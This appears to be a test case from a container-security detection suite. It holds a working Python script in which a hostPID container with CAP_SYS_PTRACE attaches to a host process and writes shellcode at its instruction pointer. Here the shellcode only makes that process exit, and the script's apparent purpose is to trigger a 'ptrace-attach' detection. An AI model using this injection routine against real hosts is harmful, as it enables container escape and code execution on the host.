# category: container-escape
# technique: T1055.008
# art: no
# expect: ptrace-attach
# image: debian
# opts: --hostpid --no-nnp --cap CAP_SYS_PTRACE
# setup: hostproc
# desc: a hostPID container with CAP_SYS_PTRACE injects code into a host process (a host daemon stand-in, $TARGET): PTRACE_ATTACH, PTRACE_GETREGS, PTRACE_POKETEXT of shellcode at its instruction pointer, PTRACE_SETREGS, detach; the shellcode only calls exit_group(42) in that process (its text pages are private copies, the binary on disk is untouched)
python3 - "$TARGET" <<'PY'
import ctypes, os, sys, time
pid = int(sys.argv[1])
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.restype = ctypes.c_long
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
ATTACH, DETACH, POKETEXT, GETREGS, SETREGS = 16, 17, 4, 12, 13
print("target:", pid, open(f"/proc/{pid}/cmdline").read().replace("\0", " "))
if libc.ptrace(ATTACH, pid, None, None) < 0:
    print("PTRACE_ATTACH refused:", os.strerror(ctypes.get_errno())); raise SystemExit(0)
os.waitpid(pid, 0)
regs = (ctypes.c_ulonglong * 27)()  # struct user_regs_struct
libc.ptrace(GETREGS, pid, None, ctypes.byref(regs))
RIP, ORIG_RAX = 16, 15
rip = regs[RIP]
print("attached; rip", hex(rip))
# mov eax, 231 (exit_group); mov edi, 42; syscall; int3 padding
code = bytes.fromhex("b8e7000000bf2a0000000f05cccccccc")
for i in range(0, len(code), 8):
    word = int.from_bytes(code[i:i + 8], "little")
    if libc.ptrace(POKETEXT, pid, ctypes.c_void_p(rip + i), ctypes.c_void_p(word)) < 0:
        print("PTRACE_POKETEXT refused:", os.strerror(ctypes.get_errno()))
regs[ORIG_RAX] = 0xFFFFFFFFFFFFFFFF  # no syscall restart: run the shellcode at rip
libc.ptrace(SETREGS, pid, None, ctypes.byref(regs))
libc.ptrace(DETACH, pid, None, None)
time.sleep(0.3)
print("target", "still running" if os.path.exists(f"/proc/{pid}/cmdline") and open(f"/proc/{pid}/cmdline").read() else "exited (shellcode ran)")
PY
